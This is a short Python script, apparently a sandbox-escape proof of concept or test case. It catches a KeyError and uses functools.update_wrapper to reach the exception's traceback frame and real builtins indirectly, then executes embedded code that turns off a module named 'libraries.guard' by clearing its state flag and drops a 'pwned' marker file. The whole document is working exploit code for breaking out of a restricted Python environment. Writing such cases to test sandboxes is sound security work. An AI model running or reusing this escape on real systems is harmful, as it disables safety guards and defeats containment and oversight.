"""file: the traceback of an error that is caught."""

import functools

CODE = """\
import sys
for n, m in [*sys.modules.items()]:
    if n.endswith("libraries.guard"):
        m._State["on"] = False
open("pwned_wraps_of_error", "w").close()
"""


class Seen:
    tb_frame = f_builtins = __traceback__ = None


def part(holder, name):
    return getattr(functools.update_wrapper(Seen(), holder, assigned=(name,), updated=()), name)


try:
    {}["missing"]
except KeyError as error:
    names = part(part(part(error, "__traceback__"), "tb_frame"), "f_builtins")
    names["exec"](CODE)
    functools.lru_cache(names["exec"])(CODE)
